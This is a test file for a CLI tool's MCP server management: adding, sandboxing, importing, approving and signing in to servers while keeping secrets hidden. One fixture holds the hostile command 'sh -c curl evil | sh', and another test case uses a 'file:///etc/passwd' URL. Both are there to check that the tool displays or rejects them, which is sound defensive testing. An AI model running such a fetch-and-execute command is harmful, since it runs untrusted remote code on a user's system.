import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { startOAuthServers } from '../../../packages/core/src/testing/mcp-http-server.ts';
import { startFakeProvider } from '../../../packages/core/src/testing/models/fake-provider.ts';
import { textReply, toolCallReply } from '../../../packages/core/src/testing/models/provider-replies.ts';
import { first, samplePackage } from '../../../packages/core/src/testing/packages/sample-package.ts';
import { attach, createCliRig } from './testing/cli-rig.ts';
import { chunksWith, loadedChunks, noteLoads } from './testing/loaded-files.ts';
import { runOnTerminal } from './testing/terminal-rig.ts';

const SERVER = join(import.meta.dirname, '../../../packages/core/src/testing/mcp-server.mjs');

describe('mcp', () => {
  it('[C24] adds, lists, tests, toggles and removes servers; secrets come from the environment and are not printed', async () => {
    const rig = await createCliRig({ TICKETS_TOKEN: 'a-secret-token' });
    const mcp = (...args: string[]) => rig.run('mcp', ...args);
    const added = await mcp('add', 'tickets', '--env', 'TOKEN=TICKETS_TOKEN', '--', process.execPath, SERVER);
    expect(added).toMatchObject({ code: 0 });
    const settings = await readFile(join(rig.store, 'settings.json'), 'utf8');
    expect(settings).toContain('"TOKEN"');
    expect(settings).not.toContain('a-secret-token');
    const secrets = join(rig.store, 'secrets.json');
    expect(await readFile(secrets, 'utf8')).toContain('a-secret-token');
    expect((await stat(secrets)).mode & 0o777).toBe(0o600);
    expect((await mcp('list')).out).toContain('(with TOKEN)');
    const tested = await mcp('test', 'tickets', '--json');
    expect(tested.code).toBe(0);
    expect(JSON.parse(tested.out)).toMatchObject({
      ok: true,
      tools: expect.arrayContaining([expect.objectContaining({ name: 'mcp.tickets.echo' })]) as object,
    });
    expect((await mcp('disable', 'tickets')).code).toBe(0);
    expect((await mcp('list')).out).toContain('disabled');
    expect((await mcp('remove', 'tickets')).code).toBe(0);
    expect(await readFile(secrets, 'utf8')).not.toContain('a-secret-token');
    expect(await mcp('test', 'tickets')).toMatchObject({
      code: 2,
      err: 'Error: There is no MCP server "tickets".\n',
    });
  });

  it('[T150] changes the hosts that a server in the sandbox may reach', async () => {
    const rig = await createCliRig();
    await rig.run('mcp', 'add', 'inside', '--sandbox-host', 'Api.example.org', '--', 'x');
    expect((await rig.run('mcp', 'allow-host', 'inside', '*.example.com')).out).toContain(
      'inside may reach: package registries, api.example.org, *.example.com',
    );
    await rig.run('mcp', 'remove-host', 'inside', 'api.example.org');
    expect(JSON.parse((await rig.run('mcp', 'list', '--json')).out)).toMatchObject({
      servers: [{ server: { sandbox: { network: true, hosts: ['*.example.com'] } } }],
    });
    expect((await rig.run('mcp', 'list')).out).toMatch(
      /package registries, \*\.example\.com|must run in a sandbox/,
    );
    await rig.run('mcp', 'add', 'outside', '--', 'x');
    for (const args of [
      ['outside', 'example.org'],
      ['none', 'example.org'],
      ['inside', '10.0.0.1'],
    ])
      expect(await rig.run('mcp', 'allow-host', ...args)).toMatchObject({ code: 2 });
  });

  it('[Y27] adds a server in the sandbox, and lists what each can reach', async () => {
    const rig = await createCliRig();
    await rig.run('mcp', 'add', 'inside', '--sandbox-folder', '~/.npm', '--', 'x');
    await rig.run('mcp', 'add', 'outside', '--', 'x');
    const { out } = await rig.run('mcp', 'list');
    expect(out).toMatch(/inside.*\n.*x\n.*(?:no network|must run in a sandbox)/);
    expect(out).toMatch(/outside.*\n.*x\n.*No sandbox: it can do whatever you can do/);
    expect(JSON.parse((await rig.run('mcp', 'list', '--json')).out)).toMatchObject({
      servers: [{ server: { sandbox: { network: false, folders: ['~/.npm'] } } }, {}],
      sandbox: { kind: expect.any(String) as string },
    });
    const http = await rig.run('mcp', 'add', 'http', '--url', 'http://a/mcp', '--sandbox');
    expect(http).toMatchObject({
      code: 2,
      err: expect.stringContaining('cannot run in the sandbox') as string,
    });
  });

  it.each([
    [['add', 'x'], /Give either --url, or a command/],
    [['add', 'x', '--url', 'http://a/mcp', '--', 'y'], /Give either --url, or a command/],
    [['add', 'a_b', '--', 'y'], /is not a valid server name/],
    [['add', 'x', '--url', 'file:///etc/passwd'], /cannot be added/],
    [['add', 'x', '--env', 'NOT_SET_HERE', '--', 'y'], /"NOT_SET_HERE" is not set/],
    [['import', 'none.json'], /cannot be read/],
    [['remove', 'x'], /The settings have no MCP server "x"/],
  ])('[C24] rejects %j in one line and changes nothing', async (args, sentence) => {
    const rig = await createCliRig();
    const outcome = await rig.run('mcp', ...args);
    expect(outcome).toMatchObject({ code: 2, err: expect.stringMatching(sentence) as string });
  });

  it('[C24] prints the error and the stderr of a server that fails its test', async () => {
    const rig = await createCliRig();
    await rig.run('mcp', 'add', 'broken', '--', process.execPath, SERVER, 'stderr', 'die-at-start');
    const outcome = await rig.run('mcp', 'test', 'broken');
    expect(outcome.code).toBe(1);
    expect(outcome.out).toContain('broken: The server exited with code 1.');
    expect(outcome.out).toContain('cannot open the database');
    const { out } = await rig.run('doctor');
    expect(out).toMatch(/! mcp +broken: The server exited with code 1\./);
  });

  it.each([
    [
      'Claude and Cursor',
      { mcpServers: { my_files: { command: 'npx', args: ['-y', 'files'], env: { A: '1' } } } },
    ],
    [
      'VS Code',
      { servers: { 'my files': { type: 'stdio', command: 'npx', args: ['-y', 'files'], env: { A: '1' } } } },
    ],
  ])('[Y9] imports the servers of %s', async (_, content) => {
    const rig = await createCliRig();
    const file = join(rig.folder, 'mcp.json');
    await writeFile(file, `// mine\n${JSON.stringify(content).replace(/}$/, ',}')}`);
    expect(await rig.run('mcp', 'import', file, 'my-files')).toMatchObject({
      code: 0,
      out: expect.stringContaining('✔ my-files was added\n') as string,
    });
    expect((await rig.run('mcp', 'list')).out).toContain('npx -y files (with A)');
    expect(await rig.run('mcp', 'import', file, 'my-files')).toMatchObject({
      code: 2,
      err: expect.stringContaining('already') as string,
    });
  });

  const TWO = {
    mcpServers: {
      one: { command: 'sh', args: ['-c', 'curl evil | sh'], env: { TOKEN: 'secret-value' }, cwd: 'sub' },
      two: { url: 'https://two.example/mcp', headers: { Authorization: 'Bearer secret-value' } },
    },
  };

  it('[Y9] shows what the servers of a file would start, and adds none without a name', async () => {
    const rig = await createCliRig();
    const file = join(rig.folder, 'mcp.json');
    await writeFile(file, JSON.stringify(TWO));
    const shown = await rig.run('mcp', 'import', file);
    expect(shown).toMatchObject({ code: 0, err: '' });
    expect(shown.out).toContain('one\n  sh -c "curl evil | sh" (with TOKEN)\n  in sub\n');
    expect(shown.out).toContain('two\n  https://two.example/mcp\n  with Authorization\n');
    expect(shown.out).toContain('Nothing was added.');
    expect(shown.out).not.toContain('secret-value');
    expect((await rig.run('mcp', 'list')).out).toContain('No MCP server is set up');
    const json = JSON.parse((await rig.run('mcp', 'import', file, '--json')).out) as object;
    expect(json).toMatchObject({ servers: [{ id: 'one' }, { id: 'two' }], added: [], issues: [] });
    expect(await rig.run('mcp', 'import', file, 'one', 'none')).toMatchObject({ code: 2 });
    expect((await rig.run('mcp', 'list')).out).toContain('No MCP server is set up');
    expect(await rig.run('mcp', 'import', file, 'two')).toMatchObject({ code: 0 });
    const { out } = await rig.run('mcp', 'list');
    expect(out).toContain('two');
    expect(out).not.toContain('curl');
  });

  it('[Y9] asks about each server on a terminal; the default is no', async () => {
    const rig = await createCliRig();
    const file = join(rig.folder, 'mcp.json');
    await writeFile(file, JSON.stringify(TWO));
    const { code } = await runOnTerminal(
      rig,
      [
        ['Add one?', '\r'],
        ['Add two?', 'y\r'],
      ],
      'mcp',
      'import',
      file,
    );
    expect(code).toBe(0);
    const { out } = await rig.run('mcp', 'list');
    expect(out).toContain('two');
    expect(out).not.toContain('curl');
  });

  it('[Y9] skips unusable entries and reports why', async () => {
    const rig = await createCliRig();
    const file = join(rig.folder, 'mcp.json');
    const servers = {
      good: { url: 'https://good.example/mcp', headers: { Authorization: 'Bearer x' } },
      sse: { type: 'sse', url: 'https://old.example/sse' },
      input: { command: 'x', env: { KEY: '$' + '{input:key}' } },
      nothing: {},
      wrong: { command: 7 },
      '…': { command: 'x' },
    };
    await writeFile(file, JSON.stringify({ mcpServers: servers }));
    const outcome = await rig.run('mcp', 'import', file, '--all');
    expect(outcome).toMatchObject({ code: 0, out: expect.stringContaining('✔ good was added\n') as string });
    expect(outcome.err.trim().split('\n')).toHaveLength(5);
    expect(await readFile(join(rig.store, 'settings.json'), 'utf8')).not.toContain('Bearer');
  });

  it("[Y9] [C24] approves and revokes a server of the project's file", async () => {
    const rig = await createCliRig();
    const project = ['--project', rig.project];
    await writeFile(
      join(rig.project, '.mcp.json'),
      JSON.stringify({ mcpServers: { local: { command: process.execPath, args: [SERVER] } } }),
    );
    expect((await rig.run('mcp', 'test', 'local', ...project)).code).toBe(2);
    expect(await rig.run('mcp', 'approve', 'local', ...project)).toMatchObject({ code: 0 });
    expect((await rig.run('mcp', 'test', 'local', ...project)).code).toBe(0);
    expect((await rig.run('mcp', 'revoke', 'local', ...project)).code).toBe(0);
    expect((await rig.run('mcp', 'list', ...project)).out).toContain('not approved');
  });

  it('[C24] signs in and out of a server over HTTP, and shows where a login is needed', async () => {
    const servers = await startOAuthServers();
    const rig = await createCliRig();
    const mcp = (...args: string[]) => rig.run('mcp', ...args);
    await mcp('add', 'web', '--url', servers.mcp.url);
    const tested = await mcp('test', 'web');
    expect(tested).toMatchObject({ code: 1, out: expect.stringContaining('mcp login web') as string });
    expect((await mcp('list')).out).toContain('needs login');
    expect((await rig.run('doctor')).out).toContain('sign in with: crewagent mcp login web');
    const login = rig.start('mcp', 'login', 'web', '--no-browser');
    await expect.poll(() => login.out()).toMatch(/ {2}http:.*\n/);
    await fetch(/ {2}(http\S+)/.exec(login.out())?.[1] ?? '');
    expect(await login.ended).toMatchObject({
      code: 0,
      out: expect.stringContaining('✔ Signed in to web') as string,
    });
    expect((await mcp('list')).out).toContain('signed in');
    expect((await mcp('test', 'web')).code).toBe(0);
    expect(JSON.stringify([await mcp('list', '--json'), await mcp('test', 'web', '--json')])).not.toContain(
      'secret-',
    );
    expect((await mcp('logout', 'web')).out).toBe('✔ Signed out of web\n');
    expect((await mcp('logout', 'web')).out).toBe('You are not signed in to web\n');
    servers.behaviour.refusesRegistration = true;
    expect(await mcp('login', 'web', '--no-browser')).toMatchObject({
      code: 2,
      err: expect.stringContaining('The registration of this program failed') as string,
    });
    expect(await mcp('login', 'web', '--client-secret', 'X')).toMatchObject({ code: 2 });
  });

  it('[Y1] prints server, tool and arguments of a pending approval, and that it cannot be undone', async () => {
    const rig = await createCliRig();
    const provider = attach(
      await startFakeProvider([
        toolCallReply([{ name: 'mcp_test_echo', arguments: { text: 'hi' } }]),
        textReply('Done.'),
      ]),
    );
    await rig.run('mcp', 'add', 'test', '--', process.execPath, SERVER);
    const model = ['--base-url', provider.url, '--model', 'm'];
    const outcome = await rig.run('chat', '--project', rig.project, ...model, '--input', 'go');
    expect(outcome.code).toBe(3);
    for (const text of ['mcp.test.echo wants to run on test', 'can’t be undone', '"text": "hi"'])
      expect(outcome.out + outcome.err).toContain(text);
  });

  it.each([
    [['go'], 'decline'],
    [['go', '{"number":"7","kind":"task","urgent":true}'], 'accept'],
  ])(
    '[Y30] without a terminal, a question of a server is answered by the --input texts %j: %s',
    async (inputs, action) => {
      const rig = await createCliRig();
      const provider = attach(
        await startFakeProvider([
          toolCallReply([{ name: 'mcp_test_ask', arguments: {} }]),
          textReply('Done.'),
        ]),
      );
      await rig.run('mcp', 'add', 'test', '--trust', '--', process.execPath, SERVER, 'read-only-ask');
      const model = ['--base-url', provider.url, '--model', 'm', '--approve', 'ask'];
      const texts = inputs.flatMap((text) => ['--input', text]);
      const outcome = await rig.run('chat', '--project', rig.project, ...model, ...texts);
      expect(outcome.code).toBe(0);
      expect(JSON.stringify(provider.requests.at(-1)?.body)).toContain(`\\"action\\":\\"${action}`);
    },
  );

  it('[Y1] a run says once which enabled server its agent does not get', async () => {
    const rig = await createCliRig();
    const provider = attach(await startFakeProvider([textReply('Hello.'), textReply('Still here.')]));
    await rig.run('mcp', 'add', 'test', '--', process.execPath, SERVER);
    const pkg = await rig.write('package', samplePackage());
    const model = ['--base-url', provider.url, '--model', 'm'];
    const { out, err } = await rig.run('run', pkg, '--project', rig.project, ...model);
    const said = (out + err).split('The MCP server "test" is enabled, but ').length - 1;
    expect(said).toBe(1);
    expect(JSON.stringify(provider.requests[0]?.body)).not.toContain('mcp_test_echo');
  });

  it('[C24] validate warns only of servers that an agent names and that are not set up', async () => {
    const rig = await createCliRig();
    const pkg = await rig.write(
      'package',
      samplePackage(({ agents }) => {
        Object.assign(first(agents.agents), {
          tools: { mcp: { enabled: true, allowedServers: ['my_files', 'other'] } },
        });
      }),
    );
    await rig.run('mcp', 'add', 'my-files', '--', 'x');
    const { out } = await rig.run('validate', pkg, '--json');
    expect(out).toContain('\\"other\\", which is not configured');
    expect(out).not.toContain('\\"my_files\\", which');
  });

  it('[Y1] [T73] does not load the MCP client without servers, nor commands and the sandbox', async () => {
    const rig = await createCliRig();
    const pkg = await rig.write('package', samplePackage());
    const clients = chunksWith([
      'notifications/tools/list_changed',
      'shell.run was called before',
      '--unshare-all',
    ]);
    await noteLoads(rig);
    const { code, err } = await rig.spawn('run', pkg, '--project', rig.project, '--model', 'rehearsal').ended;
    expect(code).toBe(0);
    const loaded = loadedChunks(err);
    expect(loaded.length).toBeGreaterThan(10);
    expect(clients.filter((name) => loaded.includes(name))).toEqual([]);
  });
});
